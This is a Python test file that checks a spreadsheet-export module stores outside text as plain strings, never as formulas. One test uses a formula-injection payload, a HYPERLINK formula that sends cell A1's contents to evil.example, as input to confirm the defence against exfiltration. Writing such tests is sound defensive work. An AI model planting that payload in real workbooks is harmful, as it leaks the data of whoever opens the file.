"""``fundmgr.spreadsheet``: every XLSX the product writes is made of its
sheets, in which a string is text unless the product marks it as a Formula
(docs/security.md, "Outside text is data"). The services' own tests read
their workbooks back (tests/reports/test_workbook_outside_text.py,
tests/grants/test_grant_export.py); these prove the rule for any text."""

from __future__ import annotations

import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from fundmgr.spreadsheet import NOT_XML, Formula, TextCell, add_text_sheet

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "#", "'", " "]

#: Any text XML can hold: no surrogates, no control character but tab, LF, CR.
xml_text = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\ufffe\uffff").filter(
        lambda c: not NOT_XML.match(c)
    ),
    min_size=1,
    max_size=60,
)
outside_text = st.one_of(
    xml_text, st.builds(lambda p, t: p + t, st.sampled_from(PREFIXES), xml_text)
)


def written(rows: list[list]):
    book = Workbook(write_only=True)
    sheet = add_text_sheet(book, "Sheet")
    for row in rows:
        sheet.append([value(sheet) if callable(value) else value for value in row])
    handle = io.BytesIO()
    book.save(handle)
    handle.seek(0)
    return load_workbook(handle)["Sheet"]


@settings(max_examples=150, deadline=None)
@given(text=outside_text)
def test_any_text_reads_back_identical_and_as_a_string(text):
    # As a plain value and in a styled cell object, as the exporters write it.
    sheet = written([[text, lambda ws: TextCell(ws, text)]])
    assert [(c.value, c.data_type) for c in sheet[1]] == [(text, "s"), (text, "s")]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
def test_text_starting_with_a_formula_character_is_text(prefix):
    text = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"Thanks")'
    [cell] = written([[text]])[1]
    assert (cell.value, cell.data_type) == (text, "s")


def test_only_a_formula_marked_as_such_is_a_formula():
    sheet = written([[1, 2, Formula("=SUM(A1:B1)"), "=SUM(A1:B1)"]])
    assert [(c.value, c.data_type) for c in sheet[1]] == [
        (1, "n"),
        (2, "n"),
        ("=SUM(A1:B1)", "f"),
        ("=SUM(A1:B1)", "s"),
    ]


def test_a_formula_must_start_with_an_equals_sign():
    with pytest.raises(ValueError, match="starts with '='"):
        Formula("SUM(A1:B1)")


def test_a_sheet_refuses_openpyxls_own_cells_which_guess_formulas():
    book = Workbook(write_only=True)
    sheet = add_text_sheet(book, "Sheet")
    with pytest.raises(ValueError, match="Cannot convert"):
        sheet.append([WriteOnlyCell(sheet, "=1+1")])


@pytest.mark.parametrize("bad", ["\x00", "\x1b", "\x0b", "\ufffe", "\uffff"], ids=repr)
def test_a_character_xml_cannot_hold_is_shown_as_the_replacement_character(bad):
    [cell] = written([[f"INV{bad}42"]])[1]
    assert (cell.value, cell.data_type) == ("INV\ufffd42", "s")
